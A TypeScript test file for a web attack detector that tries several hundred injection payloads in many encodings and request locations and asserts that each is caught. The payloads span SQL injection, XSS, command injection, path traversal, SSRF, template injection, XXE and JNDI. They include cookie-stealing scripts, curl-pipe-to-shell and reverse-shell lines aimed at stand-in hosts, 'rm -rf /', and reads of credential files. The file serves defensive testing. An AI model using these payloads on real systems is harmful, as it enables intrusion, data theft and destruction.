/** Each attack in each encoding at each place where a backend would read it: no combination may be a way around. */
import t from 'tap';
import { cookies, headersOf, mediaType, queryPairs, splitTarget } from '../../exchange/index.js';
import type { AttackInput } from '../attack-port.js';
import { attackDetector } from './index.js';

const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  sql: [
    "' or 1=1-- -",
    '1 (select (case when (7=7) then 1 else char(76)||char(112) end))',
    "1' or '1'='1",
    "admin'--",
    '1 or 1=1',
    '1) or (1=1',
    "') or ('a'='a",
    '1 union select null,null,version()-- -',
    "' union select username,password from users--",
    '1;drop table users--',
    "1'; exec xp_cmdshell('dir');--",
    '1 and sleep(5)',
    "1' and (select 1 from (select sleep(5))x)-- -",
    '1 and extractvalue(1,concat(0x7e,version()))',
    "'||(select pg_sleep(5))||'",
    "1;waitfor delay '0:0:5'--",
    "' and substring(@@version,1,1)='5",
    '1 and 1=(select count(*) from information_schema.tables)',
    "' group by columnnames having 1=1--",
    '1 order by 10--',
    "x' and email is null; --",
    '" or ""="',
    "' or true--",
    "' OR 'x'='x'#",
    '1/**/or/**/1=1',
    '1%0aor%0a1=1',
    "-1' UNION ALL SELECT 1,2,3,4#",
    '(select*from(select(sleep(20)))a)',
    '1 AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64',
    "' or 1 in (select @@version)--",
    "1'||UTL_HTTP.REQUEST('http://e.example/')||'",
    "'; insert into users values('a','b')--",
    '1 procedure analyse()',
    "'=''or'",
    "1 or 'a'<'b'",
    "' or 2>1 limit 1 -- ",
    '1 rlike sleep(5)',
    "x'/**/or/**/'1'='1",
    "' /*!50000union*/ /*!50000select*/ 1,2-- -",
    "1' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--",
    '1; SELECT pg_sleep(10)',
    "' having 1=1--",
    "1 and (select 'a')='a'",
    "' or not 1=2 -- ",
    "1' or 1=1 into outfile '/tmp/x'--",
  ],
  xss: [
    "<script>fetch('//e.example/'+document.cookie)</script>",
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '"><script>alert(document.domain)</script>',
    'javascript:alert(1)',
    '<iframe src=javascript:alert(1)>',
    "<body onload=eval(atob('YQ=='))>",
    "'-alert(1)-'",
    '" onmouseover="alert(1)',
    '<a href="javascript:fetch(\'//e\')">x</a>',
    '<details open ontoggle=alert(1)>',
    '<math><mtext></p><img src=x onerror=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<object data=data:text/html;base64,PHNjcmlwdD4=>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<IMG SRC=&#106;avascript:alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<embed src=//e.example/x.swf>',
    '<form action=javascript:alert(1)><input type=submit>',
    '<script src=//e.example/x.js></script>',
    "<style>@import'//e.example/x.css'</style>",
    '${alert(1)}',
    '<img src=1 oNeRrOr=prompt`1`>',
    '<x onclick=alert(1)>click',
    '<svg><script>alert&#40;1)</script>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<button popovertarget=x>c</button><xss onbeforetoggle=alert(1) popover id=x>',
    "';alert(1)//",
    '</script><svg onload=alert(1)>',
    '<base href=//e.example/>',
    '<meta http-equiv=refresh content=0;url=javascript:alert(1)>',
    '<link rel=import href=data:text/html,x>',
  ],
  cmd: [
    '; cat /etc/passwd',
    '| id',
    '`id`',
    '$(whoami)',
    '&& ls -la',
    '|| ping -c 3 127.0.0.1',
    '; curl http://e.example/x | sh',
    '%0a/usr/bin/id',
    ';nc -e /bin/sh 1.2.3.4 4444',
    '& ping -n 3 127.0.0.1 &',
    '| type C:\\boot.ini',
    '; wget http://e.example/a -O /tmp/a',
    '$(curl e.example/$(whoami))',
    ';sleep${IFS}5',
    'a;{cat,/etc/passwd}',
    '127.0.0.1; uname -a',
    'x|/bin/ls -al',
    '`sleep 5`',
    "a' && sleep 5 && '",
    "() { :;}; /bin/bash -c 'id'",
    '| powershell -enc aQBk',
    '; bash -i >& /dev/tcp/1.2.3.4/443 0>&1',
    "a;c''at /etc/pa''sswd",
    '|cat$IFS/etc/passwd',
    '; echo $((1+1))',
    "$(printf 'x')",
    ';python3 -c \'import os;os.system("id")\'',
    '& whoami',
    '; id;',
    '|whoami',
    ';ls',
    '& dir c:\\',
    "'; system('id'); '",
    '%26%26id',
    'a|tee /tmp/x',
    '; rm -rf /',
    "$(<'/etc/passwd')",
  ],
  path: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/passwd',
    '/etc/shadow',
    'file:///etc/passwd',
    '..%252f..%252fetc%252fpasswd',
    '..;/..;/manager/html',
    '/proc/self/environ',
    'C:\\Windows\\system32\\drivers\\etc\\hosts',
    '../../../../../../boot.ini%00.jpg',
    '/WEB-INF/web.xml',
    '/.git/config',
    '../.ssh/id_rsa',
    '/var/log/apache2/access.log',
    'php://filter/convert.base64-encode/resource=index.php',
    '/etc/./passwd',
    '../../app/config/parameters.yml',
    '~/.aws/credentials',
    '~/.bash_history',
    '../wp-config.php',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/',
    'gopher://127.0.0.1:6379/_INFO',
    'dict://localhost:11211/stats',
    'http://2130706433/',
    'http://0x7f000001/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://0177.0.0.1/',
    'http://127.0.0.1.nip.io/',
    'http://user@127.0.0.1/',
    'file:///proc/self/environ',
  ],
  ssti: [
    '{{7*7}}',
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{{config.items()}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '{{request.application.__globals__}}',
    '{php}echo 1;{/php}',
    '*{7*7}',
    '@(1+1)',
    "{{constructor.constructor('alert(1)')()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{%import os%}{{os.popen('id').read()}}",
    '#set($x=7*7)$x',
    '{{self.__init__}}',
    '${{7*7}}',
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    '[[${7*7}]]',
    "{{ 'a'|upper }}{{7*'7'}}",
  ],
  nosql: [
    "' || '1'=='1",
    "'; return true; var x='",
    '{"$gt":""}',
    "';sleep(5000);'",
    "' && this.password.match(/.*/)//",
    "a'; while(1); '",
    "$where: '1==1'",
    'db.users.drop()',
  ],
  xxe: [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a SYSTEM "http://e.example/x.dtd"><a/>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://e/x"> %p;]><r/>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>',
  ],
  jndi: [
    '${jndi:ldap://e.example/a}',
    '${${lower:j}ndi:rmi://e/a}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://e/a}',
    '${${env:X:-j}ndi:dns://e/a}',
    '${jndi:${lower:l}${lower:d}ap://e/a}',
    '${sys:java.version}${jndi:iiop://e/}',
  ],
  ldap: ['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(objectClass=*', 'x)(|(password=*)', '*)(&(objectclass=*)', 'admin*)((|userPassword=*)'],
  crlf: [
    'x%0d%0aSet-Cookie: a=b',
    'x\r\nLocation: http://e.example/',
    'x%0aX-Injected: 1',
    'a%E5%98%8D%E5%98%8ASet-Cookie:x=y',
    'x\r\n\r\n<html>',
  ],
  proto: ['__proto__[admin]', 'constructor[prototype][x]', '{"__proto__":{"x":1}}'],
  ser: [
    'rO0ABXNyABNqYXZhLnV0aWwuSGFzaHRhYmxl',
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    "!!python/object/apply:os.system ['id']",
    '_$$ND_FUNC$$_function(){return 1}()',
    'gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
  ],
};

const hexEntity = (char: string): string => `&#${char.charCodeAt(0)};`;
const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  double: (text) => encodeURIComponent(text),
  unicode: (text) => text.replace(/[<>'"]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`),
  entities: (text) => text.replace(/[<>'"]/g, hexEntity),
  base64: (text) => Buffer.from(text).toString('base64'),
};

const PLACES: Readonly<Record<string, (text: string) => AttackInput>> = {
  query: (text) => request(`/api/x?q=${percent(text)}`),
  path: (text) => request(`/api/x/${percent(text)}`),
  json: (text) => request('/api/x', { a: { b: [{ name: text }] } }),
  comment: (text) => request('/api/x', { comment: text }),
  form: (text) => request('/api/x', { name: text }, { 'content-type': 'application/x-www-form-urlencoded' }),
  cookie: (text) => request('/api/x', undefined, { cookie: `pref=${percent(text)}` }),
  header: (text) => request('/api/x', undefined, { 'x-api-version': text }),
};

/** Line breaks cannot stand in a header, and what they do in a body is no injection of headers. */
const NOT_THERE: Readonly<Record<string, readonly string[]>> = {
  crlf: ['json', 'comment', 'form', 'header'],
  xxe: ['path', 'cookie', 'header'],
};
/** A path segment is read without the escapes of JSON. */
const NOT_SO: Readonly<Record<string, readonly string[]>> = { path: ['unicode'] };
const LEAST_BASE64_CHARS = 12;

function percent(text: string): string {
  const hasEscapes = /%[0-9a-f]{2}/i.test(text);
  return (hasEscapes ? text.replace(/[ <>"'`{}|\\^#&+\n\r]/g, (char) => encodeURIComponent(char)) : encodeURIComponent(text)).replace(
    /'/g,
    '%27',
  );
}

function request(target: string, body?: object, extra: Readonly<Record<string, string>> = {}): AttackInput {
  const { path, query } = splitTarget(target);
  const headers = headersOf({
    host: 'a',
    'user-agent': 'Mozilla/5.0',
    ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    ...extra,
  });
  return {
    method: body === undefined ? 'GET' : 'POST',
    path,
    query: queryPairs(query),
    headers,
    cookies: cookies(headers),
    mediaType: mediaType(headers),
    text: () => (body === undefined ? '' : JSON.stringify(body)),
    body: () => body,
    principal: null,
  };
}

const detector = attackDetector();
for (const [kind, payloads] of Object.entries(PAYLOADS)) {
  t.test(kind, async (t) => {
    const missed: string[] = [];
    for (const payload of payloads)
      for (const [encoding, encode] of Object.entries(ENCODINGS))
        for (const [place, put] of Object.entries(PLACES)) {
          if (NOT_THERE[kind]?.includes(place) || NOT_SO[place]?.includes(encoding)) continue;
          if (encoding === 'base64' && (payload.length < LEAST_BASE64_CHARS || kind === 'ser')) continue;
          const isFound = detector.detect(put(encode(payload)), { paranoia: 1 }).some(({ score }) => score >= 5);
          if (!isFound) missed.push(`${payload} (${encoding}, ${place})`);
        }
    t.same(missed, [], `${payloads.length} payloads`);
  });
}
